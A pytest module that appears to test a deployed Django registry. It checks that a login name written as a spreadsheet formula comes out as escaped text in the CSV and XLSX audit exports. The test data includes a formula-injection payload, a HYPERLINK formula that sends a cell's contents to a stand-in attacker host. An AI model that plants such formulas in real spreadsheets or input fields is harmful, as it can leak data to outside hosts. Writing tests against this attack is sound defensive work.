"""A user name that is a spreadsheet formula, typed into the login form through nginx by
anyone, reaches the regional officer's audit exports (CSV and XLSX) as text (issue 19).

The officer is made for this test on the regional server (`django-admin shell` through a
two-task playbook), so the first administrator's password stays as the other tests use it.
"""

import csv
import io
import secrets

import pytest
import yaml
from conftest import MAKE_REGIONAL_USER, run
from openpyxl import load_workbook
from test_https import https, post_login, site  # noqa: F401 - the deployed site's address, name and CA

from regbank_foundation.paths import KIT_ROOT

pytestmark = pytest.mark.full_site

FORMULA = '=HYPERLINK("http://attacker.invalid/?p="&B2,"open")'
OFFICER = "labexport"


@pytest.fixture(scope="module")
def officer(site_lab, tmp_path_factory) -> str:
    """A regional officer with a known password, made on the regional server; its password."""
    password = f"Lab-{secrets.token_hex(8)}-Zz9"
    app = yaml.safe_load((KIT_ROOT / "roles/registry_app/defaults/main.yml").read_text())
    playbook = tmp_path_factory.mktemp("officer") / "officer.yml"
    play = {
        "hosts": "regional",
        "become": True,
        "become_user": app["registry_app_user"],
        "gather_facts": False,
        "tasks": [
            {
                "name": "Make the export test's regional officer",
                "ansible.builtin.command": {
                    "argv": [
                        f"{app['registry_app_venv']}/bin/django-admin",
                        "shell",
                        "-c",
                        MAKE_REGIONAL_USER.format(name=OFFICER, password=password),
                    ]
                },
                "environment": {
                    "REGBANK_ENV_FILE": app["registry_app_env_file"],
                    "DJANGO_SETTINGS_MODULE": "regbank_app.settings",
                },
                "no_log": True,
            }
        ],
    }
    playbook.write_text(yaml.safe_dump([play], allow_unicode=True))
    run("ansible-playbook", str(playbook))
    return password


def test_a_formula_as_login_name_is_text_in_the_audit_exports(site, officer):  # noqa: F811
    pool = https(site)
    answer, _ = post_login(pool, site, FORMULA, "any-password")
    assert answer.status == 200  # refused, and recorded with the name as typed
    answer, jar = post_login(pool, site, OFFICER, officer)
    assert answer.status == 302
    headers = {"Cookie": jar, "Host": site["name"]}
    answer = pool.request("GET", "/audit/export/csv/?action=login_failed", headers=headers)
    assert answer.status == 200 and "no-store" in answer.headers["Cache-Control"]
    rows = csv.reader(io.StringIO(answer.data.decode("utf-8-sig")), delimiter=";")
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells and FORMULA not in cells
    answer = pool.request("GET", "/audit/export/xlsx/?action=login_failed", headers=headers)
    assert answer.status == 200
    workbook = load_workbook(io.BytesIO(answer.data))
    sheet_cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in sheet_cells if c.data_type == "f"]
    assert f"'{FORMULA}" in [c.value for c in sheet_cells]
